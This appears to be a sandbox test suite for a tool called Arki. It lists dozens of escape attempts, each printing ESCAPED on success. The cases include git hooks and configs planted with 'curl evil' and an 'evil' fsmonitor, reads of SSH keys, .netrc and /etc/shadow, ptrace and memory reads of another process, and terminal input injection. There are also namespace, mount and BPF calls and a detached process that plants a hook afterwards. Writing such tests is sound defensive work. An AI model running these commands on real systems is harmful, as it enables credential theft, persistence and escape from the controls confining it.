# Ways out of the sandbox, each tried in it and, as a control, outside. What stands before the first `##` is put before
# each. A way that works prints ESCAPED; [state] means that what was changed tells, whatever is printed; [steers] the same
# for what steers git, wherever in the project it came to be, also where git directories may be written. [root]: its
# control needs root. [bubblewrap]: Landlock alone does not stop it, and the documentation says so. [6.12]: nor does
# Landlock before that Linux. [kernel]: its control depends on how the kernel was built or set up.
#
# $W: the world of the test, with project (where it runs), outside, config and home in it. $PID: a process outside.
# $TCP, $TCP6, $UDP: ports outside. $ABSTRACT: the name of an abstract socket outside. $TTY: a terminal outside.
py() { python3 -c "
import ctypes, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
W = os.environ['W']; PID = int(os.environ['PID'])
def call(*arguments):
    result = libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def escaped(): print('ESCAPED', flush=True)
$1"; }

## write a new file outside
echo x >"$W/outside/new" && echo ESCAPED
## overwrite a file outside
echo x >"$W/outside/file" && echo ESCAPED
## append to a file outside
echo x >>"$W/outside/file" && echo ESCAPED
## empty a file outside
truncate -s 0 "$W/outside/file" && echo ESCAPED
## remove a file outside
rm -f "$W/outside/file"; test -e "$W/outside/file" || echo ESCAPED
## move a file in
mv "$W/outside/file" moved 2>/dev/null; test -e "$W/outside/file" || echo ESCAPED
## move a file out
echo x >mine; mv mine "$W/outside/mine" && echo ESCAPED
## write through a hard link
ln "$W/outside/file" hard && echo x >hard && echo ESCAPED
## write through a symbolic link
ln -s "$W/outside" way && echo x >way/new && echo ESCAPED
## write through a symbolic link to a file
ln -s "$W/outside/file" way && echo x >way && echo ESCAPED
## write through /proc/self/root
echo x >"/proc/self/root$W/outside/new" && echo ESCAPED
## write through an own folder's descriptor
cd "$W/outside" && echo x >/proc/self/cwd/new && echo ESCAPED
## make a folder outside
mkdir "$W/outside/new" && echo ESCAPED
## rename the project itself
mv "$W/project" "$W/renamed" && echo ESCAPED
## rename a folder above the project [state]
mv "$W" "$W-renamed" && mkdir -p "$W/outside" && echo x >"$W/outside/new"
## exchange a folder of the project for one outside
mkdir here; py "
if libc.renameat2(-100, b'here', -100, (W + '/outside').encode(), 2) == 0: escaped()"
## a file without a name, given one outside
py "
fd = os.open('.', os.O_TMPFILE | os.O_RDWR, 0o600)
if libc.linkat(-100, f'/proc/self/fd/{fd}'.encode(), -100, (W + '/outside/new').encode(), 0x400) == 0: escaped()"
## a file without a name outside
py "
fd = os.open(W + '/outside', os.O_TMPFILE | os.O_RDWR, 0o600)
os.write(fd, b'x'); escaped()"
## a named pipe outside
mkfifo "$W/outside/pipe" && echo ESCAPED
## a disk as a device node [root] [kernel]
py "
import stat
node = os.stat(W).st_dev
os.mknod('disk', 0o600 | stat.S_IFBLK, node)
os.open('disk', os.O_RDONLY); escaped()"
## the memory as a device node [root] [kernel]
py "
import stat
os.mknod('mem', 0o600 | stat.S_IFCHR, os.makedev(1, 5))
os.open('mem', os.O_RDONLY); escaped()"
## change the mode of a file outside [bubblewrap]
chmod 777 "$W/outside/file" && echo ESCAPED
## change the times of a file outside [bubblewrap]
touch -d @1 "$W/outside/file" && echo ESCAPED
## change the owner of a file outside [bubblewrap]
chown "$(id -u)" "$W/outside/file" && echo ESCAPED
## write a setting of the kernel [root]
cat /proc/sys/vm/swappiness | tee /proc/sys/vm/swappiness >/dev/null && echo ESCAPED
## write a control group [root] [kernel]
echo "$$" >/sys/fs/cgroup/cgroup.procs && echo ESCAPED

## git: a hook [state]
echo 'curl evil' >.git/hooks/pre-commit
## git: over a hook [state]
echo 'curl evil' >.git/hooks/post-merge
## git: a hook's mode [state]
chmod 000 .git/hooks/post-merge
## git: the configuration [state]
printf '[core]\n\tfsmonitor = evil\n' >>.git/config
## git: the configuration, put in its place [state]
cp .git/config new; echo evil >>new; mv -f new .git/config
## git: the hooks as a link [state]
mkdir evil && echo x >evil/pre-commit && rm -rf .git/hooks && ln -s ../evil .git/hooks
## git: another folder in its place [state]
cp -r .git other && echo evil >other/hooks/pre-commit && mv .git gone && mv other .git
## git: a link in its place [state]
cp -r .git other && echo evil >other/hooks/pre-commit && mv .git gone && ln -s other .git
## git: another spelling [state]
echo evil >./././.git/../.git//hooks/./pre-commit
## git: through a link [state]
ln -s .git/hooks innocent && echo evil >innocent/pre-commit
## git: through a hard link [state]
ln .git/config innocent && echo evil >>innocent
## git: a worktree's configuration [state]
echo evil >.git/config.worktree
## git: a worktree's configuration, taken away [state]
rm -f .git/config.worktree
## git: another common folder [steers]
mkdir -p g/refs g/objects && printf '[core]\n\tfsmonitor = evil\n' >g/config && echo ../g >.git/commondir
## git: a nested repository's configuration [steers]
printf '[core]\n\tfsmonitor = evil\n' >>vendor/lib/.git/config
## git: a nested repository's configuration, put in its place [steers]
cp -r vendor other && printf '[core]\n\tfsmonitor = evil\n' >>other/lib/.git/config && mv vendor gone && mv other vendor
## git: a nested repository's hook [steers]
echo 'curl evil' >vendor/lib/.git/hooks/post-merge
## git: a nested repository's common folder [steers]
echo ../../../g >vendor/lib/.git/commondir
## git: a submodule's configuration [steers]
printf '[core]\n\tfsmonitor = evil\n' >>.git/modules/sub/config
## git: a submodule's hooks [steers]
mkdir -p .git/modules/sub/hooks && echo 'curl evil' >.git/modules/sub/hooks/pre-commit
## git: attributes [steers]
echo '* filter=evil' >.git/info/attributes
## git: where a submodule's repository is [steers]
mkdir g && echo 'gitdir: ../g' >sub/.git && printf '[core]\n\tfsmonitor = evil\n' >g/config
## git: a link where a submodule's repository is [steers]
mkdir g && printf '[core]\n\tfsmonitor = evil\n' >g/config && rm -f sub/.git && ln -s ../g sub/.git
## git: a repository where there was none [steers]
mkdir -p new/.git/refs new/.git/objects && printf '[core]\n\tfsmonitor = evil\n' >new/.git/config
## git: a repository with a hook where there was none [steers]
git init -q new && echo 'curl evil' >new/.git/hooks/post-merge
## git: a bare repository where there was none [steers]
mkdir -p new/refs new/objects && echo ref: refs/heads/x >new/HEAD && printf '[core]\n\tfsmonitor = evil\n' >new/config
## git: a worktree's configuration where there was none [steers]
git init -q new && printf '[core]\n\tfsmonitor = evil\n' >new/.git/config.worktree
## git: a repository in the temporary folder [steers]
git init -q "$TMPDIR/g" && printf '[core]\n\tfsmonitor = evil\n' >>"$TMPDIR/g/config" && mkdir new && echo "gitdir: $TMPDIR/g" >new/.git
## a file that gives its owner's rights
cp /bin/true mine && { chmod u+s mine || chmod 2755 mine; } && echo ESCAPED
## a file that gives its owner's rights from the first
py "
old = os.umask(0); fd = os.open('mine', os.O_CREAT | os.O_RDWR, 0o6755)
if os.fstat(fd).st_mode & 0o6000: escaped()"
## Arki's folder: a new file [state]
echo '{}' >.arki/hooks.json
## Arki's folder: another configuration [state]
echo '{}' >.arki/config.json
## Arki's folder: gone [state]
rm -rf .arki
## Arki's folder: another in its place [state]
mv .arki gone; mkdir .arki; echo '{}' >.arki/config.json
## what a killed command left [state]
echo evil >.git/hooks/pre-commit; kill -KILL $$
## what a process left behind changes afterwards [state] [6.12]
(setsid sh -c 'sleep 1; echo evil >.git/hooks/later' >/dev/null 2>&1 &); sleep 0.3

## read a key
cat "$W/home/.ssh/id_rsa" | grep -q SECRET && echo ESCAPED
## read a key through the home folder
cat ~/.ssh/id_rsa | grep -q SECRET && echo ESCAPED
## read a file of secrets
cat ~/.netrc | grep -q SECRET && echo ESCAPED
## read Arki's configuration
cat "$W/config/secret" | grep -q SECRET && echo ESCAPED
## read through /proc/self/root
cat "/proc/self/root$W/config/secret" | grep -q SECRET && echo ESCAPED
## read through a link that is there
cat "$W/outside/link/secret" | grep -q SECRET && echo ESCAPED
## read through a link of one's own
ln -s "$W/config" way; cat way/secret | grep -q SECRET && echo ESCAPED
## read through a hard link
ln "$W/config/secret" hard; cat hard | grep -q SECRET && echo ESCAPED
## read through another process's root
cat "/proc/$PID/root$W/config/secret" | grep -q SECRET && echo ESCAPED
## read through another process's folder
cat "/proc/$PID/cwd/secret" | grep -q SECRET && echo ESCAPED
## read through a handle instead of a path [root] [kernel]
py "
handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + bytes(128)); mount = ctypes.c_int()
call(303, -100, (W + '/config/secret').encode(), handle, ctypes.byref(mount), 0)
where = os.open(W + '/outside', os.O_RDONLY)
fd = call(304, where, handle, os.O_RDONLY)
if b'SECRET' in os.read(fd, 100): escaped()"
## move the folder of secrets into the project
mv "$W/config" config; cat config/secret | grep -q SECRET && echo ESCAPED
## read the passwords of the system [root]
head -c 1 /etc/shadow | grep -q . && echo ESCAPED

## another process's environment
tr '\0' '\n' <"/proc/$PID/environ" | grep -q SECRET && echo ESCAPED
## another process's memory map
grep -q . "/proc/$PID/maps" && echo ESCAPED
## another process's memory
py "
fd = os.open(f'/proc/{PID}/mem', os.O_RDONLY)
escaped()"
## another process's descriptors
readlink "/proc/$PID/fd/0" | grep -q . && echo ESCAPED
## attach to another process
py "
call(101, 16, PID, 0, 0); escaped()"
## read another process's memory by call
py "
class Part(ctypes.Structure): _fields_ = [('at', ctypes.c_void_p), ('long', ctypes.c_size_t)]
there = int(next(l for l in open('/proc/self/maps') if 'r' in l.split()[1]).split('-')[0], 16)
room = ctypes.create_string_buffer(8); mine = Part(ctypes.addressof(room), 8); theirs = Part(there, 8)
result = libc.process_vm_readv(PID, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
# EFAULT: it looked, and nothing was there.
if result >= 0 or ctypes.get_errno() == 14: escaped()"
## take another process's descriptor
py "
pidfd = call(434, PID, 0); call(438, pidfd, 1, 0); escaped()"
## signal another process
kill -CONT "$PID" && echo ESCAPED
## signal another process by descriptor
py "
pidfd = call(434, PID, 0); call(424, pidfd, 18, 0, 0); escaped()"
## limit another process
py "
import resource
resource.prlimit(PID, resource.RLIMIT_CORE, (0, 0)); escaped()"
## another process's priority
py "
os.setpriority(os.PRIO_PROCESS, PID, 5); escaped()"
## another process's chance to be ended when memory is short
cat "/proc/$PID/oom_score_adj" | tee "/proc/$PID/oom_score_adj" >/dev/null && echo ESCAPED
## another process's namespaces [root]
py "
call(308, os.open(f'/proc/{PID}/ns/net', os.O_RDONLY), 0); escaped()"
## shared memory outside
py "
at = call(29, int(os.environ['SHARED_KEY']), 16, 0); escaped()"

## a socket outside
py "
s = socket.socket(socket.AF_UNIX); s.connect(W + '/outside/socket'); escaped()"
## a socket outside, through a link
ln -s "$W/outside" way; py "
s = socket.socket(socket.AF_UNIX); s.connect('way/socket'); escaped()"
## a socket outside, through another process's root
py "
s = socket.socket(socket.AF_UNIX); s.connect(f'/proc/{PID}/root{W}/outside/socket'); escaped()"
## a socket outside, of datagrams
py "
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'x', W + '/outside/datagrams'); escaped()"
## a socket in the project that somebody outside listens on
py "
s = socket.socket(socket.AF_UNIX); s.connect('socket'); escaped()"
## an abstract socket outside
py "
s = socket.socket(socket.AF_UNIX); s.connect('\0' + os.environ['ABSTRACT']); escaped()"
## a raw pair of sockets, one of them turned to somebody outside
py "
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW); a.connect(W + '/outside/datagrams'); a.send(b'x'); escaped()"
## a pair of sockets, one of them turned to somebody outside
py "
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.connect(W + '/outside/datagrams'); a.send(b'x'); escaped()"
## a descriptor that was left open
py "
import stat
for fd in os.listdir('/proc/self/fd'):
    try:
        if int(fd) > 2 and stat.S_ISSOCK(os.fstat(int(fd)).st_mode): escaped()
    except OSError: pass
" ; py "
s = socket.socket(socket.AF_UNIX); s.connect(W + '/outside/socket'); escaped()"

## TCP to this machine
py "
s = socket.create_connection(('127.0.0.1', int(os.environ['TCP'])), 2); escaped()"
## TCP by the shell
exec 9<>"/dev/tcp/127.0.0.1/$TCP" && echo ESCAPED
## TCP over version 6 [kernel]
py "
s = socket.create_connection(('::1', int(os.environ['TCP6'])), 2); escaped()"
## TCP with data in its first packet
py "
s = socket.socket(); s.sendto(b'x', 0x20000000, ('127.0.0.1', int(os.environ['TCP']))); escaped()"
## TCP on several ways [kernel]
py "
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect(('127.0.0.1', int(os.environ['TCP']))); escaped()"
## UDP to this machine
py "
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(b'x', ('127.0.0.1', int(os.environ['UDP'])))
if s.recv(10): escaped()"
## raw packets [root]
py "
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); escaped()"
## whole packets [root]
py "
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); escaped()"
## the kernel's own ciphers [kernel]
py "
s = socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET); escaped()"
## a virtual machine's host [kernel]
py "
s = socket.socket(40, socket.SOCK_STREAM); escaped()"
## the kernel's events
py "
s = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 15); escaped()"
## a pair of sockets of another family [kernel]
py "
out = (ctypes.c_int * 2)(); call(53, 30, 1, 0, out); escaped()"

## io_uring [kernel]
py "
call(425, 1, ctypes.create_string_buffer(120)); escaped()"
## faults of memory handled by oneself [kernel]
py "
call(323, 1); escaped()"
## a program in the kernel [root] [kernel]
py "
call(321, 0, ctypes.create_string_buffer(struct.pack('IIII', 2, 4, 8, 1) + bytes(112)), 128); escaped()"
## the processor's counters [root] [kernel]
py "
call(298, ctypes.create_string_buffer(struct.pack('IIQ', 1, 112, 0) + bytes(96)), 0, -1, -1, 0); escaped()"
## the kernel's keyring
py "
call(250, 0, -3, 1); escaped()"
## a key of one's own in it
py "
call(248, b'user', b'arki-test', b'x', 1, -1); escaped()"
## new namespaces by unshare [kernel]
unshare --user --map-root-user true && echo ESCAPED
## new namespaces with a mount [root]
unshare --mount true && echo ESCAPED
## new namespaces by clone [kernel]
py "
pid = call(56, 0x10000000 | 17, 0, 0, 0, 0)
if pid == 0: os._exit(0)
os.waitpid(pid, 0); escaped()"
## new namespaces by clone3 [kernel]
py "
pid = call(435, ctypes.create_string_buffer(struct.pack('8Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0)), 64)
if pid == 0: os._exit(0)
os.waitpid(pid, 0); escaped()"
## a clock of one's own [root] [kernel]
unshare --time true && echo ESCAPED
## a mount [root]
mkdir here; mount --bind "$W/outside" here && { echo ESCAPED; umount here; }
## a mount by the newer calls [root] [kernel]
py "
fd = call(428, -100, W.encode(), 1); escaped()"
## another root [root]
chroot / true && echo ESCAPED
## the name of the machine [root]
hostname "$(hostname)" && echo ESCAPED
## the kernel's messages [root]
dmesg >/dev/null && echo ESCAPED
## a program without a file, freed of everything
py "
fd = os.memfd_create('x')
with open('/bin/cat', 'rb') as program: os.write(fd, program.read())
if os.fork() == 0: os.execve(fd, ['cat', W + '/config/secret'], {})
" | grep -q SECRET && echo ESCAPED
## more powers by being dumpable
py "
libc.prctl(4, 1, 0, 0, 0)
if 'SECRET' in open(f'/proc/{PID}/environ').read(): escaped()"
## another user [root]
su nobody -s /bin/sh -c "kill -0 $PID; cat $W/config/secret" 2>/dev/null; py "
if 'NoNewPrivs:\t0' in open('/proc/self/status').read(): escaped()"

## write on a terminal outside
echo x >"$TTY" && echo ESCAPED
## type on a terminal outside [kernel]
py "
import fcntl
fd = os.open(os.environ['TTY'], os.O_RDWR | os.O_NOCTTY)
fcntl.ioctl(fd, 0x5412, b'x'); escaped()"
## what is typed for a terminal of one's own [kernel]
py "
import pty, fcntl
a, b = pty.openpty()
fcntl.ioctl(b, 0x5412, b'x'); escaped()"
